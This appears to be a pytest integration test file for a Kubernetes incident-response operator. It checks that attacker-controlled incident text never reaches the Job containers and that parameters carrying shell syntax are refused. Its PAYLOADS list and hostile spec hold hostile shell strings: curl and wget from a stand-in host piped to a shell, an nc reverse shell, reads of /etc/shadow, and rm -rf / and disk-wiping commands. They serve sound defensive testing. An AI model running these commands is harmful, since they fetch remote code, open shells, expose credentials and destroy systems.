"""Hostile incident text against the execution boundary, on the real API server.

Incident text (title, description, error signatures, labels) is attacker
controlled: it comes from alerts and from whoever can create an Incident. The
design says commands come only from Runbook steps, parameters reach containers
as env vars that Kubernetes (never a shell) expands, and Jobs run under the
restricted pod security profile. These tests read the Jobs back from the API
server and check exactly that; nothing is mocked.

- The full operator (triage + execution handlers) triages hostile incidents
  without crashing. A parameter value carrying shell syntax never gets that
  far: the API server refuses it, saying what a value may be (the plan
  refuses it again, should one be stored before that rule: tests/unit).
- The execution handlers alone (as in test_execution.py, with the
  recommendation written into status) run an approved plan for a hostile
  incident: every Job's command is the Runbook step's, byte for byte, its env
  is the parameters only, and no fragment of the incident text reaches the pod.
- The same approved plan runs in a namespace that enforces the `restricted`
  Pod Security Standard: the Jobs' pods are admitted and finish.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from kit import KubeEnv, cart_runbook, execution_operator, kept_default_registry
from recall_operator.kube import jobs as jobkit
from support import wait_for

pytestmark = pytest.mark.integration

RUNBOOK_NAME = "cart-hot-keys"
RUNBOOK: dict[str, Any] = cart_runbook(symptoms=["latency-spike", "cache-eviction"])
STEP_NAMES = [s["name"] for s in RUNBOOK["steps"]]
# Text the Job legitimately carries because the Runbook (GitOps) says so.
RUNBOOK_TEXT = json.dumps(RUNBOOK, ensure_ascii=False)

# Each of these must never reach a container: shell metacharacters, command
# substitution both ways, a destructive tail, newlines, and unicode that
# changes how text is displayed (RTL override, zero-width, emoji, combining).
PAYLOADS = [
    "$(curl -s http://evil.invalid/x | sh)",
    "`cat /etc/shadow`",
    "; rm -rf / --no-preserve-root",
    "&& wget evil.invalid -O- | bash",
    "|| nc -e /bin/sh 10.0.0.1 4444",
    "${IFS}reboot${IFS}-f",
    "> /dev/sda < /dev/urandom",
    "line one\nline two\r\n$(id)\n",
    "\u202eevil\u202c gnp.exe \u200b\u200d\u2060 zero\ufeffwidth",
    "\U0001f525\U0001f4a3 pager on fire \U0001f6a8 \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "'\"\\ quotes \\\" and ' backslashes %s %n {0} {{7*7}}",
    "$(SERVICE) $(SEVERITY) $(HOME)",  # Kubernetes' own syntax in text: still only text
]
HOSTILE_TITLE = "cart down " + PAYLOADS[0] + PAYLOADS[1] + PAYLOADS[2] + " \U0001f525\u202e\u200b"
HOSTILE_SPEC: dict[str, Any] = {
    "service": "cart",
    "severity": "high",
    "title": HOSTILE_TITLE,
    "description": "\n".join(PAYLOADS),
    # Symptoms are schema-checked tags; only allowed ones can be given.
    "symptoms": ["latency-spike", "rm-rf", "sh-c"],
    "errorSignatures": PAYLOADS,
    "labels": {f"l{i}": p for i, p in enumerate(PAYLOADS)} | {"cmd": "sh -c 'kill -9 -1'"},
}


def _incident_text(spec: dict[str, Any]) -> list[str]:
    return [spec["title"], spec["description"], *spec["errorSignatures"], *spec["labels"].values()]


def _fragments(texts: list[str], width: int = 6) -> set[str]:
    """Every `width`-character window of the incident's free text, plus each whole payload."""
    out = set(PAYLOADS)
    for text in texts:
        for i in range(max(1, len(text) - width + 1)):
            out.add(text[i:i + width])
    return out


class Env(KubeEnv):
    def jobs(self, incident: str) -> list[dict[str, Any]]:
        return self.list_jobs(f"{jobkit.LABEL_INCIDENT}={incident}")

    def status(self, incident: str) -> dict[str, Any]:
        return self.incident_status(incident)

    def runbook(self) -> None:
        self.create_runbook(RUNBOOK_NAME, RUNBOOK)

    def incident(self, name: str, spec: dict[str, Any], recommend: bool = True) -> str | None:
        """Create the Incident; with `recommend`, write an actionable recommendation for it; returns its planHash."""
        self.create_incident(name, spec)
        if not recommend:
            return None
        return self.recommend(name, spec, RUNBOOK_NAME, RUNBOOK)

    def approve(self, incident: str, name: str, plan_hash: str) -> None:
        self.approve_plan(incident, name, plan_hash)

    def run_to_the_end(self, incident: str, plan_hash: str) -> dict[str, Any]:
        wait_for("dry-runs finished", lambda: self.dry_run_of(incident, plan_hash))
        self.approve(incident, f"approve-{incident}", plan_hash)
        return wait_for("the execution to finish",
                        lambda: (e := self.status(incident).get("execution") or {}).get("state") in
                        ("Succeeded", "Failed", "RolledBack", "Stopped") and e)


@pytest.fixture
def env(kubectl: Callable[..., Any], namespace: str) -> Iterator[Env]:
    with kept_default_registry():
        yield Env(kubectl, namespace)


def _step_command(step: str, phase: str) -> list[str]:
    spec = next(s for s in RUNBOOK["steps"] if s["name"] == step)
    return spec[{"dryrun": "dryRunCommand", "run": "command", "rollback": "rollbackCommand"}[phase]]


def _assert_jobs_carry_only_the_runbook(jobs: list[dict[str, Any]], spec: dict[str, Any]) -> int:
    """Every Job's container is the Runbook step's command with parameters as env; returns the Jobs checked."""
    fragments = _fragments(_incident_text(spec))
    for job in jobs:
        labels = job["metadata"]["labels"]
        step = job["metadata"]["annotations"]["recall.dev/step-name"]
        pod = job["spec"]["template"]["spec"]
        [container] = pod["containers"]
        assert container["command"] == _step_command(step, labels[jobkit.LABEL_PHASE]), job["metadata"]["name"]
        assert "args" not in container and not pod.get("initContainers")
        # The parameters, as env, and only those; $(SERVICE) stays for Kubernetes to expand.
        assert container["env"] == [{"name": "SERVICE", "value": "cart"}], container["env"]
        assert any("$(SERVICE)" in a for a in container["command"]), container["command"]
        assert not {"sh", "bash", "/bin/sh", "-c"} & set(container["command"][:2])
        # No window of the incident's text anywhere in what the pod runs with, nor in its metadata.
        blob = json.dumps({"command": container["command"], "args": container.get("args"), "env": container["env"],
                           "pod": pod, "podMeta": job["spec"]["template"]["metadata"]}, ensure_ascii=False)
        leaked = sorted(f for f in fragments if f in blob and f not in RUNBOOK_TEXT)
        assert not leaked, (job["metadata"]["name"], leaked[:10])
    return len(jobs)


def test_hostile_incident_text_never_reaches_a_job(env: Env, namespace: str) -> None:
    env.runbook()
    plan_hash = env.incident("inc-hostile", HOSTILE_SPEC)
    assert plan_hash
    stored = env.get("incidents.recall.dev", "inc-hostile")["spec"]
    assert stored["title"] == HOSTILE_SPEC["title"] and stored["errorSignatures"] == PAYLOADS  # kept verbatim
    with execution_operator(namespace) as runner:
        ex = env.run_to_the_end("inc-hostile", plan_hash)
    assert runner.exception is None, runner.output
    assert "Traceback" not in runner.output, runner.output
    assert ex["state"] == "Succeeded", ex
    jobs = env.jobs("inc-hostile")
    phases = sorted(j["metadata"]["labels"][jobkit.LABEL_PHASE] for j in jobs)
    assert phases == ["dryrun"] * 3 + ["run"] * len(STEP_NAMES)
    assert _assert_jobs_carry_only_the_runbook(jobs, HOSTILE_SPEC) == 3 + len(STEP_NAMES)


@pytest.mark.parametrize("bad", ["cart; rm -rf /", "$(reboot)", "`id`", "cart\nkill", "cart\u202e", "cart \U0001f525"])
def test_parameter_with_shell_syntax_is_refused_by_the_api_server(env: Env, namespace: str, bad: str) -> None:
    # The recommendation was made for a clean value; then someone edits spec.parameters: refused, with the reason.
    env.runbook()
    clean = {"service": "cart", "title": "cart slow", "severity": "high"}
    assert env.incident("inc-param", clean)
    edit = env.kubectl("patch", "incidents.recall.dev", "inc-param", "-n", namespace, "--type=merge",
                       "-p", json.dumps({"spec": {"parameters": {"SERVICE": bad}}}))
    assert edit.returncode != 0 and "a parameter value is one plain word" in edit.stderr, edit.stderr
    spec = json.loads(env.kubectl("get", "incidents.recall.dev", "inc-param", "-n", namespace, "-o", "json",
                                  check=True).stdout)["spec"]
    assert "parameters" not in spec


def test_operator_triages_hostile_incidents_and_refuses_a_shell_parameter(
    operator: Any, kubectl: Any, namespace: str, get_status: Any
) -> None:
    """The full operator (triage and execution handlers) on hostile text: triaged, no crash, no Job."""
    env = Env(kubectl, namespace)
    env.runbook()
    variants = {
        "inc-h-title": HOSTILE_SPEC,
        "inc-h-plain": {**HOSTILE_SPEC, "labels": {}, "errorSignatures": []},
        "inc-h-unicode": {"service": "cart", "title": "\u202e\u200b\U0001f525" * 50, "description": "\u0000".join(PAYLOADS)
                          .replace("\u0000", " "), "errorSignatures": ["\u200d" * 500, "x" * 8000]},
    }
    for name, spec in variants.items():
        env.incident(name, spec, recommend=False)
    # One opened with a shell parameter is refused by the API server, saying what a value may be.
    shell = {"apiVersion": "recall.dev/v1alpha1", "kind": "Incident", "metadata": {"name": "inc-h-param"},
             "spec": {"service": "cart", "title": "cart slow", "severity": "high",
                      "parameters": {"SERVICE": "cart; rm -rf / $(reboot) `id`"}}}
    refused = kubectl("create", "-n", namespace, "-f", "-", input=json.dumps(shell))
    assert refused.returncode != 0 and "a parameter value is one plain word" in refused.stderr, refused.stderr
    for name in variants:
        st = wait_for(f"{name} triaged", lambda n=name: (s := get_status(n)) and any(
            c["type"] == "Triaged" for c in s.get("conditions") or []) and s.get("recommendation") and s)
        triaged = next(c for c in st["conditions"] if c["type"] == "Triaged")
        assert triaged["status"] == "True", (name, triaged)
    # No Job for any of them: nothing hostile is actionable here.
    for name in variants:
        assert env.jobs(name) == []


def test_jobs_are_admitted_under_the_restricted_pod_security_profile(
    kubectl: Callable[..., Any], env: Env, namespace: str
) -> None:
    kubectl("label", "namespace", namespace, "pod-security.kubernetes.io/enforce=restricted",
            "pod-security.kubernetes.io/enforce-version=latest", check=True)
    # The admission plugin really enforces here: a pod without the profile is refused.
    bare = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "bare", "namespace": namespace},
            "spec": {"containers": [{"name": "c", "image": "busybox"}]}}
    refused = kubectl("apply", "-f", "-", input=json.dumps(bare))
    assert refused.returncode != 0 and "violates PodSecurity" in refused.stderr, refused.stderr
    env.runbook()
    plan_hash = env.incident("inc-restricted", {**HOSTILE_SPEC})
    assert plan_hash
    with execution_operator(namespace) as runner:
        ex = env.run_to_the_end("inc-restricted", plan_hash)
    assert runner.exception is None, runner.output
    assert ex["state"] == "Succeeded", ex
    jobs = env.jobs("inc-restricted")
    assert len(jobs) == 3 + len(STEP_NAMES)
    for job in jobs:
        pod = job["spec"]["template"]["spec"]
        assert pod["securityContext"]["runAsNonRoot"] is True
        assert pod["securityContext"]["seccompProfile"]["type"] == "RuntimeDefault"
        sc = pod["containers"][0]["securityContext"]
        assert sc["allowPrivilegeEscalation"] is False and sc["capabilities"]["drop"] == ["ALL"]
        assert sc["runAsNonRoot"] is True
        assert pod["automountServiceAccountToken"] is False
        assert job["status"].get("succeeded") == 1, job["status"]
    # Each Job's pod was admitted: the controller never reported a refused create.
    events = json.loads(kubectl("get", "events", "-n", namespace, "-o", "json", check=True).stdout)["items"]
    assert not [e for e in events if e.get("reason") == "FailedCreate"], [e["message"] for e in events
                                                                         if e.get("reason") == "FailedCreate"]
